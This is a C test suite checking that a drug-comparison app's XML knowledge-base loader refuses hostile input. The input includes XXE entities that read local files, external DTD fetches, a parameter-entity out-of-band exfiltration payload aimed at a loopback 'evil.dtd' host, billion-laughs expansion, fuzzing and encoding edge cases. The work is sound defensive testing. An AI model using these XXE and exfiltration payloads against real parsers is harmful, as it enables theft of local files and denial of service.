/* test-hostile-xml.c
 *
 * Copyright 2026 The Relaxant Compare developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

/* Hostile knowledge-base documents: entity tricks, DOCTYPEs, deep nesting,
 * oversized files, truncation at every byte, random corruption, encodings
 * and numbers at the edges. Each is refused with the message a person sees,
 * or loads intact; nothing crashes, hangs, reads a local file or opens a
 * connection. */

#include "config.h"

#include <gio/gio.h>
#include <string.h>

#include "rc-chart.h"
#include "rc-fuzz-targets.h"
#include "rc-hostile-util.h"
#include "rc-titration.h"

#define DOCTYPE_REFUSED "DOCTYPE declaration, which is not allowed"

typedef struct
{
  char  *dir;
  char  *text; /* a small valid drug document */
  GRand *rand;
} Fixture;

static void
fixture_set_up (Fixture *f, gconstpointer data)
{
  g_autoptr (GBytes) bytes =
      hostile_source_bytes ("tests", "fuzz", "corpus", "kb", "valid-minimal.xml", NULL);

  f->dir = hostile_make_dir ();
  f->text = g_strndup (g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
}

static void
fixture_tear_down (Fixture *f, gconstpointer data)
{
  hostile_remove_dir (f->dir);
  g_free (f->dir);
  g_free (f->text);
}

/* text with the first occurrence of from replaced by to. */
static char *
replace (const char *text, const char *from, const char *to)
{
  const char *at = strstr (text, from);

  g_assert_nonnull (at);
  return g_strdup_printf ("%.*s%s%s", (int) (at - text), text, to, at + strlen (from));
}

/* The document with a DOCTYPE inserted after the XML declaration. */
static char *
with_doctype (const char *text, const char *doctype)
{
  const char *body = strstr (text, "?>\n");

  g_assert_nonnull (body);
  body += 3;
  return g_strdup_printf ("%.*s%s\n%s", (int) (body - text), text, doctype, body);
}

/* Loads text from a file and checks it is refused with the DOCTYPE
 * message, nothing loaded, and secret (when given) nowhere. */
static void
assert_doctype_refused (Fixture *f, const char *text, const char *secret)
{
  g_autofree char *path = hostile_write (f->dir, "hostile.xml", text, -1);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_file (path, &loaded);
  const RcKbProblem *problem;

  g_assert_false (loaded);
  problem = hostile_assert_single_error (kb, RC_KB_ERROR_DOCTYPE, DOCTYPE_REFUSED);
  g_assert_cmpstr (problem->file, ==, path);
  g_assert_cmpint (problem->line, ==, 2);
  g_assert_cmpuint (g_list_model_get_n_items (rc_knowledge_base_get_drugs (kb)), ==, 0);
  if (secret != NULL)
    g_assert_false (hostile_problems_contain (kb, secret));
}

/* ---- Entities and DOCTYPEs ------------------------------------------- */

static void
test_xxe_local_file (Fixture *f, gconstpointer data)
{
  g_autofree char *secret = g_strdup_printf ("rc-secret-%08x", g_random_int ());
  g_autofree char *secret_path = hostile_write (f->dir, "secret.txt", secret, -1);
  g_autofree char *uri = g_filename_to_uri (secret_path, NULL, NULL);
  g_autofree char *doctype = g_strdup_printf ("<!DOCTYPE drug [\n"
                                              "  <!ENTITY secret SYSTEM \"%s\">\n"
                                              "  <!ENTITY bare SYSTEM \"%s\">\n"
                                              "]>",
                                              uri, secret_path);
  g_autofree char *doc = with_doctype (f->text, doctype);
  g_autofree char *named = replace (doc, "<name>Fixturine</name>", "<name>&secret;</name>");
  g_autofree char *text =
      replace (named, "<publisher>Test Publisher</publisher>", "<publisher>&bare;</publisher>");

  assert_doctype_refused (f, text, secret);
}

/* A local TCP listener: if the loader tried to fetch anything from it, a
 * connection would wait in its backlog. */
static GSocket *
listen_on_loopback (guint16 *port)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GInetAddress) loopback = g_inet_address_new_loopback (G_SOCKET_FAMILY_IPV4);
  g_autoptr (GSocketAddress) address = g_inet_socket_address_new (loopback, 0);
  g_autoptr (GSocketAddress) bound = NULL;
  g_autoptr (GSocket) socket = NULL;

  socket = g_socket_new (G_SOCKET_FAMILY_IPV4, G_SOCKET_TYPE_STREAM, G_SOCKET_PROTOCOL_TCP, &error);
  if (socket == NULL || !g_socket_bind (socket, address, TRUE, &error) ||
      !g_socket_listen (socket, &error))
    {
      g_test_skip_printf ("no loopback TCP socket: %s", error->message);
      return NULL;
    }
  bound = g_socket_get_local_address (socket, &error);
  g_assert_no_error (error);
  *port = g_inet_socket_address_get_port (G_INET_SOCKET_ADDRESS (bound));
  g_socket_set_blocking (socket, FALSE);
  return g_steal_pointer (&socket);
}

static void
assert_no_connection (GSocket *socket)
{
  g_autoptr (GError) error = NULL;
  g_autoptr (GSocket) client = g_socket_accept (socket, NULL, &error);

  g_assert_null (client);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_WOULD_BLOCK);
}

static void
test_xxe_url (Fixture *f, gconstpointer data)
{
  guint16 port = 0;
  g_autoptr (GSocket) listener = listen_on_loopback (&port);
  g_autofree char *doctype = NULL;
  g_autofree char *doc = NULL;
  g_autofree char *text = NULL;

  if (listener == NULL)
    return;
  doctype = g_strdup_printf ("<!DOCTYPE drug [\n"
                             "  <!ENTITY remote SYSTEM \"http://127.0.0.1:%u/secret.txt\">\n"
                             "]>",
                             port);
  doc = with_doctype (f->text, doctype);
  text = replace (doc, "<name>Fixturine</name>", "<name>&remote;</name>");

  assert_doctype_refused (f, text, NULL);
  assert_no_connection (listener);
}

static void
test_external_dtd (Fixture *f, gconstpointer data)
{
  guint16 port = 0;
  g_autoptr (GSocket) listener = listen_on_loopback (&port);
  g_autofree char *doctype = NULL;
  g_autofree char *text = NULL;

  if (listener == NULL)
    return;
  doctype = g_strdup_printf ("<!DOCTYPE drug SYSTEM \"http://127.0.0.1:%u/kb.dtd\">", port);
  text = with_doctype (f->text, doctype);

  assert_doctype_refused (f, text, NULL);
  assert_no_connection (listener);
}

static void
test_parameter_entities (Fixture *f, gconstpointer data)
{
  guint16 port = 0;
  g_autoptr (GSocket) listener = listen_on_loopback (&port);
  g_autofree char *secret = g_strdup_printf ("rc-secret-%08x", g_random_int ());
  g_autofree char *secret_path = hostile_write (f->dir, "secret.txt", secret, -1);
  g_autofree char *doctype = NULL;
  g_autofree char *text = NULL;

  if (listener == NULL)
    return;
  /* The classic out-of-band exfiltration: a parameter entity reads the
   * file and another sends it to a URL. */
  doctype = g_strdup_printf ("<!DOCTYPE drug [\n"
                             "  <!ENTITY %% file SYSTEM \"%s\">\n"
                             "  <!ENTITY %% dtd SYSTEM \"http://127.0.0.1:%u/evil.dtd\">\n"
                             "  <!ENTITY %% wrap \"<!ENTITY send SYSTEM "
                             "'http://127.0.0.1:%u/?%%file;'>\">\n"
                             "  %%dtd;\n"
                             "  %%wrap;\n"
                             "]>",
                             secret_path, port, port);
  text = with_doctype (f->text, doctype);

  assert_doctype_refused (f, text, secret);
  assert_no_connection (listener);
}

static void
test_billion_laughs (Fixture *f, gconstpointer data)
{
  g_autoptr (GString) doctype = g_string_new ("<!DOCTYPE drug [\n  <!ENTITY lol0 \"lol\">\n");
  g_autofree char *doc = NULL;
  g_autofree char *text = NULL;

  for (guint i = 1; i < 10; i++)
    {
      g_string_append_printf (doctype, "  <!ENTITY lol%u \"", i);
      for (guint j = 0; j < 10; j++)
        g_string_append_printf (doctype, "&lol%u;", i - 1);
      g_string_append (doctype, "\">\n");
    }
  g_string_append (doctype, "]>");
  doc = with_doctype (f->text, doctype->str);
  text = replace (doc, "<name>Fixturine</name>", "<name>&lol9;</name>");

  assert_doctype_refused (f, text, NULL);
}

static void
test_internal_entity (Fixture *f, gconstpointer data)
{
  /* Even a harmless internal entity is refused: no DOCTYPE at all. */
  g_autofree char *doc = with_doctype (f->text, "<!DOCTYPE drug [ <!ENTITY d \"2026-01-15\"> ]>");
  g_autofree char *text = replace (doc, "reviewed=\"2026-01-15\"", "reviewed=\"&d;\"");

  assert_doctype_refused (f, text, NULL);
}

/* ---- Size and structure ---------------------------------------------- */

static void
test_deep_nesting (Fixture *f, gconstpointer data)
{
  g_autoptr (GString) text = g_string_new ("<?xml version=\"1.0\"?>\n<drug id=\"deep\">");
  g_autofree char *path = NULL;
  g_autoptr (RcKnowledgeBase) kb = NULL;
  gboolean loaded = TRUE;

  for (guint i = 0; i < 10000; i++)
    g_string_append (text, "<note>");
  for (guint i = 0; i < 10000; i++)
    g_string_append (text, "</note>");
  g_string_append (text, "</drug>\n");
  path = hostile_write (f->dir, "deep.xml", text->str, (gssize) text->len);

  kb = hostile_load_file (path, &loaded);
  g_assert_false (loaded);
  /* libxml2 stops at its depth limit (256) without XML_PARSE_HUGE; the
   * message says so in plain words, not with libxml2's option name. */
  hostile_assert_single_error (kb, RC_KB_ERROR_NOT_WELL_FORMED, "nested more than 256 levels deep");
  g_assert_false (hostile_problems_contain (kb, "XML_PARSE_HUGE"));
}

/* A 200 MB file is refused by its size, before a byte of it is parsed (it
 * is all NUL bytes: a parse would report those instead). */
static void
test_size_limit (Fixture *f, gconstpointer data)
{
  g_autofree char *path = hostile_write_sparse (f->dir, "huge.xml", 200 * 1024 * 1024);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_file (path, &loaded);
  g_autofree char   *limit = g_format_size (RC_KB_MAX_FILE_SIZE);
  const RcKbProblem *problem;

  g_assert_false (loaded);
  problem = hostile_assert_single_error (kb, RC_KB_ERROR_IO, "The file is too large");
  /* g_format_size() puts a no-break space before the unit. */
  g_assert_nonnull (strstr (problem->message, "(209.7"));
  g_assert_nonnull (strstr (problem->message, limit));
}

/* Bytes of more than the limit are refused too, whatever their source. */
static void
test_size_limit_bytes (Fixture *f, gconstpointer data)
{
  gsize            len = RC_KB_MAX_FILE_SIZE + 1;
  g_autofree char *text = g_malloc (len);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = NULL;

  memset (text, ' ', len);
  memcpy (text, "<drug>", 6);
  kb = hostile_load_bytes (text, len, &loaded);
  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_IO, "The file is too large");
}

static void
test_huge_name (Fixture *f, gconstpointer data)
{
  g_autoptr (GString) text = g_string_new ("<");
  g_autoptr (RcKnowledgeBase) kb = NULL;
  gboolean loaded = TRUE;

  for (guint i = 0; i < 60000; i++)
    g_string_append_c (text, 'n');
  g_string_append (text, "/>");
  kb = hostile_load_bytes (text->str, text->len, &loaded);
  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_NOT_WELL_FORMED, "not well-formed XML");
}

static void
test_huge_attribute (Fixture *f, gconstpointer data)
{
  g_autofree char *value = g_strnfill (1024 * 1024, 'A');
  g_autofree char *attribute = g_strdup_printf ("reviewed=\"2026-01-15\" x=\"%s\"", value);
  g_autofree char *text = replace (f->text, "reviewed=\"2026-01-15\"", attribute);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_SCHEMA, "Attribute x is not allowed on <drug>");
}

/* A megabyte of text where a name goes loads: it is allowed, only long. */
static void
test_huge_text (Fixture *f, gconstpointer data)
{
  g_autofree char *value = g_strnfill (1024 * 1024, 'a');
  g_autofree char *name = g_strdup_printf ("<name>%s</name>", value);
  g_autofree char *text = replace (f->text, "<name>Fixturine</name>", name);
  gboolean         loaded = FALSE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_true (loaded);
  g_assert_cmpuint (strlen (rc_drug_get_name (rc_knowledge_base_lookup_drug (kb, "fixturine"))), ==,
                    1024 * 1024);
}

/* ---- Damaged files ----------------------------------------------------- */

/* Every prefix of a valid drug file: the ones that end before the root
 * element is closed are refused with one problem, the others load. */
static void
check_every_prefix (const char *what, const char *text, gsize len, const char *id)
{
  g_autoptr (RcKnowledgeBase) kb = rc_knowledge_base_new ();
  g_autofree char *close_tag = g_strdup_printf ("</%s>", "drug");
  const char      *end = g_strrstr (text, close_tag);
  gsize            complete;
  guint            refused = 0;

  g_assert_nonnull (end);
  complete = (gsize) (end - text) + strlen (close_tag);
  for (gsize cut = 0; cut <= len; cut++)
    {
      g_autoptr (GBytes) bytes = g_bytes_new_static (text, cut);
      GPtrArray *problems = rc_knowledge_base_get_problems (kb);
      guint      before = problems->len;
      gboolean   loaded = rc_knowledge_base_load_bytes (kb, bytes, what);

      if (cut < complete)
        {
          const RcKbProblem *problem;

          if (loaded)
            g_error ("%s cut after %" G_GSIZE_FORMAT " bytes loaded", what, cut);
          g_assert_cmpuint (problems->len, ==, before + 1);
          problem = g_ptr_array_index (problems, before);
          g_assert_cmpint (problem->severity, ==, RC_KB_PROBLEM_ERROR);
          g_assert_true (problem->code == RC_KB_ERROR_NOT_WELL_FORMED ||
                         problem->code == RC_KB_ERROR_ENCODING);
          g_assert_cmpuint (strlen (problem->message), >, 0);
          g_assert_true (g_utf8_validate (problem->message, -1, NULL));
          refused++;
        }
      else
        {
          if (!loaded)
            g_error ("%s complete after %" G_GSIZE_FORMAT " bytes was refused", what, cut);
          g_assert_nonnull (rc_knowledge_base_lookup_drug (kb, id));
        }
    }
  g_test_message ("%s: %u prefixes refused, %" G_GSIZE_FORMAT " loaded", what, refused,
                  len + 1 - refused);
  g_assert_cmpuint (refused, ==, complete);
}

static void
test_truncated_minimal (Fixture *f, gconstpointer data)
{
  check_every_prefix ("valid-minimal.xml", f->text, strlen (f->text), "fixturine");
}

static void
test_truncated_shipped (Fixture *f, gconstpointer data)
{
  g_autoptr (GBytes) bytes = hostile_source_bytes ("data", "drugs", "methocarbamol.xml", NULL);
  gsize            len;
  const char      *text = g_bytes_get_data (bytes, &len);
  g_autofree char *copy = g_strndup (text, len);

  check_every_prefix ("methocarbamol.xml", copy, len, "methocarbamol");
}

/* Random corruption (fixed seed, so a failure is repeatable): every mutant
 * goes through the load harness's checks. */
static void
test_byte_flips (Fixture *f, gconstpointer data)
{
  const guint32    seed = 20260115;
  GRand           *rand = g_rand_new_with_seed (seed);
  gsize            len = strlen (f->text);
  g_autofree char *mutant = g_malloc (len);

  g_test_message ("seed %u", seed);
  rc_fuzz_init ();
  for (guint round = 0; round < 1500; round++)
    {
      guint flips = (guint) g_rand_int_range (rand, 1, 9);

      memcpy (mutant, f->text, len);
      for (guint i = 0; i < flips; i++)
        {
          gsize at = (gsize) g_rand_int_range (rand, 0, (gint32) len);

          /* Half the time an ASCII byte that matters to XML. */
          if (g_rand_boolean (rand))
            mutant[at] = "<>&\"'=/!?-;#x0 \n"[g_rand_int_range (rand, 0, 16)];
          else
            mutant[at] = (char) g_rand_int_range (rand, 0, 256);
        }
      rc_fuzz_kb_load_one ((const guint8 *) mutant, len);
    }
  g_rand_free (rand);
}

/* ---- Encodings --------------------------------------------------------- */

static void
test_bom_utf8 (Fixture *f, gconstpointer data)
{
  g_autofree char *text = g_strconcat ("\xEF\xBB\xBF", f->text, NULL);
  gboolean         loaded = FALSE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_true (loaded);
  g_assert_cmpuint (rc_knowledge_base_get_problems (kb)->len, ==, 0);
  g_assert_cmpstr (rc_drug_get_name (rc_knowledge_base_lookup_drug (kb, "fixturine")), ==,
                   "Fixturine");
}

/* What comes before the root element: prefix, then a valid file. */
static void
check_prefix_refused (Fixture *f, const char *prefix, const char *fragment)
{
  g_autofree char *text = g_strconcat (prefix, f->text, NULL);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_NOT_WELL_FORMED, fragment);
}

/* Two byte-order marks (an editor adding one to a file that has one): the
 * second is text before the root element, named for what it is. */
static void
test_double_bom (Fixture *f, gconstpointer data)
{
  check_prefix_refused (f, "\xEF\xBB\xBF\xEF\xBB\xBF", "two byte-order marks");
}

/* Text before the root element is not "no element at all". */
static void
test_text_before_root (Fixture *f, gconstpointer data)
{
  check_prefix_refused (f, "notes\n", "An XML element was expected");
}

/* A root element in a namespace looks right by name; the message says
 * what differs. */
static void
test_namespaced_root (Fixture *f, gconstpointer data)
{
  g_autofree char *text = replace (f->text, "<drug ", "<drug xmlns=\"http://example.org/drugs\" ");
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_false (loaded);
  g_assert_true (hostile_problems_contain (kb, "is in the namespace “http://example.org/drugs”"));
  g_assert_false (hostile_problems_contain (kb, "not <drug>"));
}

static void
check_utf16 (Fixture *f, const char *bom, gboolean big_endian)
{
  g_autofree char *declared = replace (f->text, "encoding=\"UTF-8\"", "encoding=\"UTF-16\"");
  g_autoptr (GError) error = NULL;
  gsize            len = 0;
  g_autofree char *utf16 =
      g_convert (declared, -1, big_endian ? "UTF-16BE" : "UTF-16LE", "UTF-8", NULL, &len, &error);
  g_autofree char *text = NULL;
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = NULL;

  g_assert_no_error (error);
  text = g_malloc (len + 2);
  memcpy (text, bom, 2);
  memcpy (text + 2, utf16, len);
  kb = hostile_load_bytes (text, len + 2, &loaded);

  /* Not supported, but said plainly: save it as UTF-8. */
  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_ENCODING, "save it as UTF-8");
}

static void
test_utf16 (Fixture *f, gconstpointer data)
{
  check_utf16 (f, "\xFF\xFE", FALSE);
  check_utf16 (f, "\xFE\xFF", TRUE);
}

static void
test_utf16_without_bom (Fixture *f, gconstpointer data)
{
  g_autoptr (GError) error = NULL;
  gsize            len = 0;
  g_autofree char *utf16 = g_convert (f->text, -1, "UTF-16LE", "UTF-8", NULL, &len, &error);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = NULL;

  g_assert_no_error (error);
  kb = hostile_load_bytes (utf16, len, &loaded);
  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_ENCODING, "it may be UTF-16");
}

static void
test_invalid_utf8 (Fixture *f, gconstpointer data)
{
  static const char *const bad[] = {
    "Fix\xC3(urine",         /* a lead byte without its continuation */
    "Fix\xED\xA0\x80urine",  /* a UTF-16 surrogate */
    "Fix\xC0\xAFurine",      /* an overlong "/" */
    "Fix\xF4\x90\x80\x80ne", /* above U+10FFFF */
    "Fix\xFFurine",
  };

  for (guint i = 0; i < G_N_ELEMENTS (bad); i++)
    {
      g_autofree char *name = g_strdup_printf ("<name>%s</name>", bad[i]);
      g_autofree char *text = replace (f->text, "<name>Fixturine</name>", name);
      gboolean         loaded = TRUE;
      g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);
      const RcKbProblem *problem;

      g_assert_false (loaded);
      problem = hostile_assert_single_error (kb, RC_KB_ERROR_ENCODING,
                                             "is not valid UTF-8 text (byte 0x");
      g_assert_cmpint (problem->line, ==, 5);
      g_assert_cmpint (problem->column, ==, 12);
    }
}

/* The declaration is not trusted: the bytes are read as UTF-8 whatever it
 * says, so the text is never garbled. */
static void
test_wrong_encoding_declaration (Fixture *f, gconstpointer data)
{
  static const char *const declared[] = { "ISO-8859-1", "UTF-16", "US-ASCII", "EBCDIC-US",
                                          "windows-1252" };

  for (guint i = 0; i < G_N_ELEMENTS (declared); i++)
    {
      g_autofree char *encoding = g_strdup_printf ("encoding=\"%s\"", declared[i]);
      g_autofree char *step = replace (f->text, "encoding=\"UTF-8\"", encoding);
      g_autofree char *text =
          replace (step, "<name>Fixturine</name>", "<name>Fixturine é – ü</name>");
      gboolean loaded = FALSE;
      g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

      g_test_message ("declared %s", declared[i]);
      g_assert_true (loaded);
      g_assert_cmpstr (rc_drug_get_name (rc_knowledge_base_lookup_drug (kb, "fixturine")), ==,
                       "Fixturine é – ü");
    }
}

/* Latin-1 bytes, honestly declared, are still refused: the knowledge base
 * is UTF-8 only, and the message says how to fix the file. */
static void
test_latin1_bytes (Fixture *f, gconstpointer data)
{
  g_autofree char *step = replace (f->text, "encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"");
  g_autofree char *text = replace (step, "<name>Fixturine</name>", "<name>Fixturine \xE9</name>");
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_ENCODING,
                               "is not valid UTF-8 text (byte 0xE9); save it as UTF-8");
}

static void
test_unknown_encoding (Fixture *f, gconstpointer data)
{
  g_autofree char *text = replace (f->text, "encoding=\"UTF-8\"", "encoding=\"X-NO-SUCH\"");
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_NOT_WELL_FORMED, "X-NO-SUCH");
}

/* ---- Numbers ----------------------------------------------------------- */

static void
check_bad_dose (Fixture *f, const char *dose, const char *fragment)
{
  g_autofree char *attribute = g_strdup_printf ("to-day=\"3\" dose=\"%s\"", dose);
  g_autofree char *text = replace (f->text, "to-day=\"3\" dose=\"5\"", attribute);
  gboolean         loaded = TRUE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

  g_test_message ("dose=\"%s\"", dose);
  g_assert_false (loaded);
  hostile_assert_single_error (kb, RC_KB_ERROR_SCHEMA, fragment);
}

static void
test_numbers (Fixture *f, gconstpointer data)
{
  g_autofree char *digits = g_strnfill (400, '9');

  check_bad_dose (f, "1e309", "is not a valid number");
  check_bad_dose (f, "1E3", "is not a valid number");
  check_bad_dose (f, "NaN", "is not a valid number");
  check_bad_dose (f, "INF", "is not a valid number");
  check_bad_dose (f, "-INF", "is not a valid number");
  check_bad_dose (f, "0x10", "is not a valid number");
  check_bad_dose (f, "1,5", "is not a valid number");
  check_bad_dose (f, "-0", "must be greater than 0");
  check_bad_dose (f, "0.0000", "must be greater than 0");
  /* libxml2 refuses decimals of more digits than it can hold: one
   * problem, quoting the value (not a second, vaguer line about the
   * element's attributes). */
  {
    g_autofree char *attribute = g_strdup_printf ("to-day=\"3\" dose=\"%s\"", digits);
    g_autofree char *text = replace (f->text, "to-day=\"3\" dose=\"5\"", attribute);
    gboolean         loaded = TRUE;
    g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

    g_assert_false (loaded);
    hostile_assert_single_error (kb, RC_KB_ERROR_SCHEMA, "is not a valid decimal");
  }
}

/* Whole numbers the schema accepts (xsd:positiveInteger has no upper
 * bound) but the model cannot hold are refused with a problem that quotes
 * them. Loading them as something else is wrong: today a day number that
 * does not fit becomes 0, which turns a dated titration step into an
 * "if needed" one, and a trial arm of 10^20 people becomes "size not
 * given". */
static void
test_out_of_range_integers (Fixture *f, gconstpointer data)
{
  static const struct
  {
    const char *from;
    const char *to;
    const char *value;
  } cases[] = {
    { "from-day=\"4\" dose=\"10\"", "from-day=\"4294967296\" dose=\"10\"", "4294967296" },
    { "from-day=\"4\" dose=\"10\"", "from-day=\"99999999999999999999\" dose=\"10\"",
      "99999999999999999999" },
    { "n=\"100\"", "n=\"99999999999999999999\"", "99999999999999999999" },
    { "times-per-day=\"3\" times-per-day-max=\"4\"",
      "times-per-day=\"3\" times-per-day-max=\"18446744073709551616\"", "18446744073709551616" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *text = replace (f->text, cases[i].from, cases[i].to);
      gboolean         loaded = FALSE;
      g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);

      g_test_message ("%s", cases[i].to);
      if (loaded)
        {
          const RcRegimen *regimen =
              rc_drug_lookup_regimen (rc_knowledge_base_lookup_drug (kb, "fixturine"), "oral-ir");

          for (guint s = 0; s < regimen->steps->len; s++)
            {
              const RcTitrationStep *step = g_ptr_array_index (regimen->steps, s);
              g_test_message ("loaded step: days %u-%u, %g-%g mg, %u-%u times a day",
                              step->from_day, step->to_day, step->dose_min, step->dose_max,
                              step->times_per_day, step->times_per_day_max);
            }
          /* Reported, and the other cases still checked. */
          g_test_fail_printf ("%s was loaded instead of refused", cases[i].to);
          continue;
        }
      /* A rule or a schema limit: either is fine. */
      hostile_assert_single_error (kb, HOSTILE_ANY_CODE, cases[i].value);
    }
}

/* A day number near the top of guint loads (the schema allows it) but must
 * not wrap the calendar's length, nor make the titration chart walk four
 * billion days. Run in a subprocess so a hang fails this test alone. */
static void
check_huge_day_chart (const char *text)
{
  gboolean loaded = FALSE;
  g_autoptr (RcKnowledgeBase) kb = hostile_load_bytes (text, strlen (text), &loaded);
  RcDrug *drug;

  if (!loaded)
    {
      g_autofree char *line =
          rc_kb_problem_to_string (g_ptr_array_index (rc_knowledge_base_get_problems (kb), 0));
      g_test_message ("refused: %s", line);
      return;
    }
  drug = rc_knowledge_base_lookup_drug (kb, "fixturine");
  for (guint i = 0; i < rc_drug_get_regimens (drug)->len; i++)
    {
      const RcRegimen *regimen = g_ptr_array_index (rc_drug_get_regimens (drug), i);
      guint            last = rc_titration_maintenance_day (regimen);
      guint            days = rc_titration_suggested_days (regimen);

      g_test_message ("%s: maintenance day %u, suggested days %u", regimen->id, last, days);
      g_assert_cmpuint (days, >=, last);
    }
  {
    const char *ids[] = { "fixturine", NULL };
    g_autoptr (RcChart) chart = rc_chart_new (RC_CHART_KIND_TITRATION, kb, ids);
    g_autoptr (RcChartStyle) style = rc_chart_style_new (RC_CHART_THEME_LIGHT);

    rc_chart_layout (chart, style, 600, 400);
  }
}

static void
test_huge_day_numbers (Fixture *f, gconstpointer data)
{
  static const char *const cases[][2] = {
    { "from-day=\"4\" dose=\"10\"", "from-day=\"4294967295\" dose=\"10\"" },
    { "to-day=\"21\" to-day-min=\"14\"", "to-day=\"4294967295\" to-day-min=\"4294967295\"" },
  };
  g_autofree char *old_tmp = NULL;

  if (g_test_subprocess ())
    {
      guint            i = (guint) g_ascii_strtoull (g_getenv ("RC_HOSTILE_CASE"), NULL, 10);
      g_autofree char *text = replace (f->text, cases[i][0], cases[i][1]);

      check_huge_day_chart (text);
      return;
    }
  /* The subprocesses make their temporary folders inside this test's,
   * which is removed even when they abort. */
  old_tmp = g_strdup (g_getenv ("TMPDIR"));
  g_setenv ("TMPDIR", f->dir, TRUE);
  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *index = g_strdup_printf ("%u", i);

      g_test_message ("%s", cases[i][1]);
      g_setenv ("RC_HOSTILE_CASE", index, TRUE);
      /* Normally well under a second; a minute means it is walking
       * billions of days. */
      g_test_trap_subprocess (NULL, 60 * G_USEC_PER_SEC, G_TEST_SUBPROCESS_INHERIT_STDERR);
      /* Each case is reported; one failing does not hide the next. */
      if (!g_test_trap_has_passed ())
        g_test_fail_printf ("%s: the load or the chart crashed, failed or took over a minute",
                            cases[i][1]);
    }
  if (old_tmp != NULL)
    g_setenv ("TMPDIR", old_tmp, TRUE);
  else
    g_unsetenv ("TMPDIR");
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add ("/hostile/xml/" path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
  ADD ("xxe-local-file", test_xxe_local_file);
  ADD ("xxe-url", test_xxe_url);
  ADD ("external-dtd", test_external_dtd);
  ADD ("parameter-entities", test_parameter_entities);
  ADD ("billion-laughs", test_billion_laughs);
  ADD ("internal-entity", test_internal_entity);
  ADD ("deep-nesting", test_deep_nesting);
  ADD ("size-limit", test_size_limit);
  ADD ("size-limit-bytes", test_size_limit_bytes);
  ADD ("huge-name", test_huge_name);
  ADD ("huge-attribute", test_huge_attribute);
  ADD ("huge-text", test_huge_text);
  ADD ("truncated-minimal", test_truncated_minimal);
  ADD ("truncated-shipped", test_truncated_shipped);
  ADD ("byte-flips", test_byte_flips);
  ADD ("bom-utf8", test_bom_utf8);
  ADD ("double-bom", test_double_bom);
  ADD ("text-before-root", test_text_before_root);
  ADD ("namespaced-root", test_namespaced_root);
  ADD ("utf16", test_utf16);
  ADD ("utf16-without-bom", test_utf16_without_bom);
  ADD ("invalid-utf8", test_invalid_utf8);
  ADD ("wrong-encoding-declaration", test_wrong_encoding_declaration);
  ADD ("latin1-bytes", test_latin1_bytes);
  ADD ("unknown-encoding", test_unknown_encoding);
  ADD ("numbers", test_numbers);
  ADD ("out-of-range-integers", test_out_of_range_integers);
  ADD ("huge-day-numbers", test_huge_day_numbers);
#undef ADD

  return g_test_run ();
}
